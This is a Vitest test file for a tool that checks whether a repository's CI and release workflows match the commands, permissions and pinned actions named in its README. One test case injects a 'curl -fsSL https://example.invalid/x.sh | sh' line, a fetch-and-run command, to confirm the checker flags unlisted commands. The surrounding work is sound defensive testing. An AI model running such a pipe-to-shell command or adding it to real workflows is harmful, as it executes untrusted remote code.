import { spawnSync } from "node:child_process";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { checkWorkflows } from "../src/check.mjs";
import { repoRoot } from "../src/paths.mjs";
import { readmeCommands } from "../src/readme.mjs";
import { copyRepo, mutate } from "./support";

const cli = join(import.meta.dirname, "..", "src", "cli.mjs");

describe("the workflows run the README's commands", () => {
  it("holds for this checkout", () => {
    expect(checkWorkflows(repoRoot)).toEqual([]);
  });

  it("reads the commands by the README's own words", () => {
    const readme = readmeCommands(readFileSync(join(repoRoot, "README.md"), "utf8"));
    expect(readme).toMatchObject({
      test: "npm test",
      version: "pnpm version-packages",
      release: "pnpm release",
      docs: "pnpm run docs",
      docsDir: "docs/api",
    });
    expect(readme.all).toContain("npm install --global pnpm@12.4.2");
  });

  it("the CLI exits 0 here and 1 on a drifted copy", () => {
    expect(spawnSync(process.execPath, [cli], { encoding: "utf8" }).status).toBe(0);
    const copy = copyRepo();
    mutate(copy, ".github/workflows/ci.yml", "run: npm test", "run: pnpm test");
    const drifted = spawnSync(process.execPath, [cli, copy], { encoding: "utf8" });
    expect(drifted.status).toBe(1);
    expect(drifted.stderr).toContain("runs `pnpm test`");
  });
});

describe("a drift on either side fails the check", () => {
  const cases: [string, string, string | RegExp, string, RegExp][] = [
    [
      "README renames the release command",
      "README.md",
      /^pnpm release( +#)/m,
      "pnpm publish-all$1",
      /publish is `pnpm release`, the README's is `pnpm publish-all`/,
    ],
    [
      "README renames the version command",
      "README.md",
      /^pnpm version-packages( +#)/m,
      "pnpm bump$1",
      /version is `pnpm version-packages`, the README's is `pnpm bump`/,
    ],
    [
      "README changes the test command",
      "README.md",
      /^npm test( +#)/m,
      "npm run verify$1",
      /does not run the README's test command `npm run verify`/,
    ],
    [
      "README changes the docs command",
      "README.md",
      "`pnpm run docs` builds",
      "`pnpm docs:build` builds",
      /does not build the API reference with `pnpm docs:build`/,
    ],
    [
      "README moves the API reference",
      "README.md",
      "into `docs/api/`",
      "into `site/api/`",
      /the README builds the API reference into `site\/api`/,
    ],
    [
      "README no longer says which command CI runs",
      "README.md",
      "the same command CI runs",
      "the full suite",
      /README no longer names the test command/,
    ],
    [
      "README changes the pnpm version",
      "README.md",
      "npm install --global pnpm@12.4.2",
      "npm install --global pnpm@12.5.0",
      /runs `npm install --global pnpm@12.4.2`.*do not name/,
    ],
    ["CI runs another test command", ".github/workflows/ci.yml", "run: npm test", "run: pnpm check", /runs `pnpm check`/],
    [
      "the version input drifts",
      ".github/workflows/release.yml",
      "version: pnpm version-packages",
      "version: pnpm changeset version",
      /changesets version\) .*do not name|version is `pnpm changeset version`/,
    ],
    [
      "the publish input drifts",
      ".github/workflows/release.yml",
      "publish: pnpm release",
      "publish: pnpm exec changeset publish",
      /publish is `pnpm exec changeset publish`/,
    ],
    [
      "the docs step drifts",
      ".github/workflows/release.yml",
      "run: pnpm run docs",
      "run: pnpm --filter @leadping/release-check run docs",
      /does not build the API reference/,
    ],
    [
      "an unnamed command is added",
      ".github/workflows/ci.yml",
      "run: npm test",
      "run: |\n          curl -fsSL https://example.invalid/x.sh | sh\n          npm test",
      /runs `curl -fsSL/,
    ],
    [
      "an apt package the README does not name",
      ".github/workflows/ci.yml",
      "chromium redis-server",
      "chromium redis-server postgresql",
      /apt package `postgresql`/,
    ],
    ["the Node 24 leg is dropped", ".github/workflows/ci.yml", /\s+- node: 24\n\s+node-image: \S+/, "", /no Node 24 leg/],
    [
      "the Node 20 image disagrees with .nvmrc",
      ".nvmrc",
      "20.20.2",
      "20.21.0",
      /Node 20 image is node:20\.20\.2-bookworm, expected node:20\.21\.0-bookworm/,
    ],
    ["the checkout drops the tags", ".github/workflows/ci.yml", "fetch-depth: 0", "fetch-depth: 1", /fetch-depth: 0/],
    ["CI stops running on pull requests", ".github/workflows/ci.yml", "  pull_request:\n", "", /no workflow runs on pull_request/],
    ["release runs on every branch", ".github/workflows/release.yml", "branches: [main]", 'branches: ["**"]', /push to main only/],
    [
      "top-level permissions are widened",
      ".github/workflows/ci.yml",
      "permissions: {}",
      "permissions: write-all",
      /top-level permissions must be \{\}/,
    ],
    [
      "CI asks for an OIDC token",
      ".github/workflows/ci.yml",
      "contents: read",
      "contents: read\n      id-token: write",
      /`id-token: write` is not needed/,
    ],
    [
      "the release job asks for Pages",
      ".github/workflows/release.yml",
      "pull-requests: write #",
      "pages: write\n      pull-requests: write #",
      /job release: `pages: write` is not needed/,
    ],
    [
      "an action is pinned to a tag",
      ".github/workflows/ci.yml",
      /actions\/cache@[0-9a-f]{40}/,
      "actions/cache@v4",
      /pin `actions\/cache@v4`/,
    ],
    ["an action's version comment is dropped", ".github/workflows/release.yml", "# v1.5.3", "", /pin `changesets\/action@/],
  ];

  it.each(cases)("%s", (_name, file, from, to, expected) => {
    const copy = copyRepo();
    mutate(copy, file, from, to);
    const problems = checkWorkflows(copy);
    expect(problems.join("\n")).toMatch(expected);
  });

  it("a workflow that is not YAML fails with its file name", () => {
    const copy = copyRepo();
    mutate(copy, ".github/workflows/ci.yml", "jobs:", "jobs: [\n");
    expect(() => checkWorkflows(copy)).toThrow(/ci\.yml/);
  });
});
